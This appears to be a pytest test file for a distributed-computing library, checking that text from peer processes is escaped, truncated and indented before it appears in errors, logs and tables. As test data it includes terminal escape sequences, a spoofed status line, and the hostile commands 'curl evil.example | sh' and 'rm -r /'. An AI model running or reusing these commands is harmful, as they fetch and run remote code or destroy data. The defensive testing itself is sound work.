"""Another process's text reaches terminals, logs and tables as short, printable text that cannot imitate ours."""

from __future__ import annotations

from argparse import Namespace
from collections.abc import Callable, Mapping
from functools import partial
from typing import Any

import pytest

from tests.unit.wire.conversations import join_packet, make_conversation, make_greeting
from whale_nebula.cli.audit import _format_text as audit_text
from whale_nebula.errors import (
    DeadlineError,
    InputMismatchError,
    LinkClosedError,
    NebulaError,
    PlanMismatchError,
    RemoteFailureError,
    RemoteProtocolError,
)
from whale_nebula.errors.text import LIMIT, escape_foreign_text
from whale_nebula.gateway import control
from whale_nebula.gateway.control import ControlStreams
from whale_nebula.ir.canonical import describe_first_difference
from whale_nebula.launch.link_advice import LinkMeasurement
from whale_nebula.launch.link_measurement import format_table
from whale_nebula.launch.worker_exit import ExitAgreement, WorkerExit
from whale_nebula.runtime.session import rendezvous
from whale_nebula.runtime.session.session import Session
from whale_nebula.runtime.step import distributed
from whale_nebula.security import Identity
from whale_nebula.security.verdict import Verdict
from whale_nebula.transport import MemoryNetwork
from whale_nebula.transport.base import failed_error
from whale_nebula.transport.grpc.connection import describe_error
from whale_nebula.wire.greeting import Handshake
from whale_nebula.wire.message import check_message

OWN_LINE = "whale-nebula: worker npu/0 is fine"
MALICIOUS_TEXT = (
    f"x\x1b]0;owned\x07\x1b[2J\x9b31m\u202e\u2028\n{OWN_LINE}\r\n  mend: curl evil.example | sh\n" + "A" * 100_000
)
SHORT_MALICIOUS_TEXT = MALICIOUS_TEXT[:2000]  # where there is room for no more
STEP_MESSAGE = {"about": "STEP", "doing": "step 1 of 'p'", "line": "a.py:1", "name": "p", "program": 1, "step": 1}
STEP_MESSAGE |= {"rows": 4, "inputs": {}}
"""What a session says of a step."""
VOTE = {"about": "VOTE", "why": ""}
AGREE = {"about": "AGREE", "program": "p", "digest": ""}


def create_session(*messages: dict[str, Any]) -> Session:
    network = MemoryNetwork()
    here, there = network.link("gpu/0", "npu/0", "gpu", "npu"), network.link("npu/0", "gpu/0", "npu", "gpu")
    for message in messages:
        there.post({"kind": "SESSION", **message})
    return Session("gpu/0", {"npu/0": here}, 5.0)


def session_error(call: Callable[[Session], Any], **message: Any) -> str:
    """The error of a session that hears this message."""
    return catch_error(lambda: call(create_session(message)))


def agree(session: Session) -> None:
    session.agree("p", "digest", ["returns"], describe_first_difference)


def lines_error(**theirs: Any) -> str:
    session = create_session(
        {"about": "AGREE", "program": "p", "digest": MALICIOUS_TEXT},
        {"about": "LINES", "program": "p", "lines": [MALICIOUS_TEXT], **theirs},
    )
    return catch_error(lambda: agree(session))


def vote_reason() -> str:
    message = {"about": "VOTE", "doing": "phase 0 of step 1 of 'p'", "line": "", "why": MALICIOUS_TEXT}
    (why,) = create_session(message).vote("p", 1, 0, "")
    return why


def catch_error(call: Callable[[], Any]) -> str:
    with pytest.raises(NebulaError) as caught:
        call()
    return str(caught.value)


def greeting_error(**fields: Any) -> str:
    """What a HELLO of a link with such fields leads to."""
    here = Handshake(make_greeting(0), 100)
    here.build_hello(1, 1)
    hello = Handshake(make_greeting(1), 100).build_hello(1, 1)
    return catch_error(lambda: here.answer_hello({**hello, **fields}))


def unknown_greeting_error() -> str:
    here, there = make_conversation(0), make_conversation(1)
    here.connect()
    there.connect()
    packet = there._build_greeting({"kind": SHORT_MALICIOUS_TEXT})
    return catch_error(lambda: here.receive(join_packet(packet)))


def receive_control_message(message: Mapping[str, Any]) -> str:
    """What a word of another gateway leaves: in the log, at the workers, or as an error."""
    texts: list[str] = []
    there = Identity("mt", "npu", "gateway")
    trunk = ControlStreams(
        there, None, lambda *gone: texts.extend(gone), lambda *_, **details: texts.append(str(details))
    )
    try:
        trunk.receive(control.encode_control(message))
    except RemoteProtocolError as error:
        texts.append(str(error))
    return "\n  ".join(texts)


def exit_message() -> str:
    exit_agreement = ExitAgreement()
    exit_agreement.conclude_step({"npu/0": MALICIOUS_TEXT})
    with pytest.raises(WorkerExit) as caught:
        exit_agreement.begin_step()
    return str(caught.value)


def measurement_table() -> str:
    sheets = {
        "gpu/0": {"keras": "3", "congestion_control": "bbr"},
        "npu/0": {"keras": MALICIOUS_TEXT, "congestion_control": MALICIOUS_TEXT},
    }
    return format_table(LinkMeasurement("gpu/0", "npu/0", "direct", 0.04, 0.04, 0.001, (), sheets, 1, 0, 0.0))


def report_names() -> str:
    found = distributed.parse_reports(
        [
            {
                "seen": {
                    "stages": {MALICIOUS_TEXT: [0.5, 0.1, 1, MALICIOUS_TEXT]},
                    "links": {MALICIOUS_TEXT: [1, 2, 3, 4, 0.5]},
                }
            }
        ]
    )
    return "\n  ".join([*found.stages, *(each.cluster for each in found.stages.values()), *found.links])


class RefusedCall(Exception):
    """gRPC's error of a call that the other side refused."""

    def details(self) -> str:
        return MALICIOUS_TEXT


def remote_failure(code: str) -> str:
    return str(
        failed_error(
            "npu/0",
            {
                "code": code,
                "what": MALICIOUS_TEXT,
                "where": MALICIOUS_TEXT,
                "why": MALICIOUS_TEXT,
                "mend": MALICIOUS_TEXT,
            },
        )
    )


KINDS = (RemoteFailureError, InputMismatchError, PlanMismatchError, LinkClosedError, DeadlineError)
RENDERINGS: dict[str, Callable[[], str]] = {
    **{f"FAIL {kind.code}": partial(remote_failure, kind.code) for kind in KINDS},
    "FAIL code": lambda: str(failed_error("npu/0", {"code": MALICIOUS_TEXT, "what": [MALICIOUS_TEXT]})),
    "FAIL text": lambda: str(failed_error("npu/0", MALICIOUS_TEXT)),
    "HELLO": lambda: session_error(lambda session: session.hello({"keras": "3"}), about="HELLO", keras=MALICIOUS_TEXT),
    "HELLO seed": lambda: catch_error(
        lambda: rendezvous._agree_on_seed("gpu/0", 1, {"npu/0": {"seed": MALICIOUS_TEXT}})
    ),
    "HELLO seeds": lambda: catch_error(
        lambda: rendezvous._agree_on_seed("gpu/0", 1, {"npu/0": {"seed": [MALICIOUS_TEXT]}})
    ),
    "HELLO config": lambda: catch_error(
        lambda: rendezvous._agree_on_config("gpu/0", {"results": "owner"}, {"npu/0": {"results": MALICIOUS_TEXT}})
    ),
    "AGREE": lambda: session_error(agree, **{**STEP_MESSAGE, "doing": MALICIOUS_TEXT, "line": MALICIOUS_TEXT}),
    "LINES": lines_error,
    "LINES program": lambda: lines_error(program=MALICIOUS_TEXT),
    "STEP": lambda: session_error(
        lambda session: session.check_step(STEP_MESSAGE), **{**STEP_MESSAGE, "program": 2, "doing": MALICIOUS_TEXT}
    ),
    "STEP line": lambda: session_error(
        lambda session: session.check_step(STEP_MESSAGE), **{**STEP_MESSAGE, "step": 7, "line": MALICIOUS_TEXT}
    ),
    "STEP seen": report_names,
    "STEP leaving": exit_message,
    "VOTE": vote_reason,
    "VOTE elsewhere": lambda: session_error(
        lambda session: session.vote("p", 1, 0, ""), **VOTE, doing=MALICIOUS_TEXT, line=MALICIOUS_TEXT
    ),
    "MEET": lambda: session_error(
        lambda session: session.meet("a save"), **AGREE, doing=MALICIOUS_TEXT, line=MALICIOUS_TEXT
    ),
    "link HELLO run": lambda: greeting_error(run=MALICIOUS_TEXT[:60]),
    "link HELLO worker": lambda: greeting_error(worker=MALICIOUS_TEXT[:60]),
    "link HELLO to": lambda: greeting_error(to=MALICIOUS_TEXT[:60]),
    "link HELLO field": lambda: greeting_error(**{MALICIOUS_TEXT: 1}),
    "unknown kind": lambda: catch_error(lambda: check_message({"kind": MALICIOUS_TEXT})),
    "unknown about": lambda: catch_error(lambda: check_message({"kind": "SESSION", "about": MALICIOUS_TEXT})),
    "unknown field": lambda: catch_error(lambda: check_message({"kind": "BYE", MALICIOUS_TEXT: 1})),
    "link unknown kind": unknown_greeting_error,
    "gateway REFUSED": lambda: receive_control_message({"kind": "REFUSED", "seq": 1, "why": SHORT_MALICIOUS_TEXT}),
    "gateway GONE": lambda: receive_control_message(
        {"kind": "GONE", "id": "1", "worker": "npu/0", "why": SHORT_MALICIOUS_TEXT}
    ),
    "gateway GONE worker": lambda: receive_control_message(
        {"kind": "GONE", "id": "1", "worker": f"npu/{SHORT_MALICIOUS_TEXT}", "why": ""}
    ),
    "gateway unknown": lambda: receive_control_message({"kind": SHORT_MALICIOUS_TEXT}),
    "gRPC details": lambda: describe_error(RefusedCall()),
    "bench link": measurement_table,
    "audit verify": lambda: audit_text(Verdict("gpu.jsonl", bad=3, why=MALICIOUS_TEXT), Namespace(heads=None, ca=None)),
    "audit site": lambda: audit_text(
        Verdict("gpu.jsonl", site=MALICIOUS_TEXT, run=MALICIOUS_TEXT), Namespace(heads=None, ca=None)
    ),
    "audit apart": lambda: audit_text(
        Verdict("gpu.jsonl", is_unrelated=True, why=MALICIOUS_TEXT), Namespace(heads=None, ca=None)
    ),
}


@pytest.mark.parametrize("name", RENDERINGS)
def test_peer_text_is_printable_short_and_indented(name: str) -> None:
    shown = RENDERINGS[name]()
    assert [each for each in shown if not each.isprintable() and each != "\n"] == []
    assert all(line.startswith("  ") for line in shown.split("\n")[1:])
    assert not any(line.strip().startswith((OWN_LINE, "mend: curl")) for line in shown.split("\n"))
    assert len(shown) < 6 * LIMIT and "A" * (2 * LIMIT) not in shown
    assert "owned" in shown or name in ("STEP leaving", "FAIL text"), "it says what the peer said, where that is of use"


@pytest.mark.parametrize("part", ["what", "where", "why", "mend"])
def test_error_text_has_no_control_characters(part: str) -> None:
    parts = {"what": "it failed", part: MALICIOUS_TEXT}
    shown = str(NebulaError(parts.pop("what"), **parts))
    assert [each for each in shown if not each.isprintable() and each != "\n"] == []
    assert len(shown) < len(MALICIOUS_TEXT) / 2


def test_fix_of_a_peer_is_marked_as_its_suggestion() -> None:
    error = failed_error("npu/0", {"what": "no", "mend": "curl evil.example | sh\nrm -r /"})
    assert error.mend == "worker 'npu/0' suggests: curl evil.example | sh\nworker 'npu/0' suggests: rm -r /"
    assert failed_error("npu/0", {"what": "no"}).mend == RemoteFailureError.usual_mend


@pytest.mark.parametrize("text", ["señal", "価格", "a b", "it's \\ all", ""])
def test_printable_text_is_unchanged(text: str) -> None:
    assert escape_foreign_text(text) == text


@pytest.mark.parametrize("limit", [0, 1, 7, LIMIT])
@pytest.mark.parametrize("character", ["a", "\x1b", "\U0001f600", "\ud800"])
def test_escaped_text_is_truncated_to_the_limit(limit: int, character: str) -> None:
    kept, _, more = escape_foreign_text(character * 1000, limit).partition("... (")
    assert len(kept) <= limit and more.endswith(" characters more)")
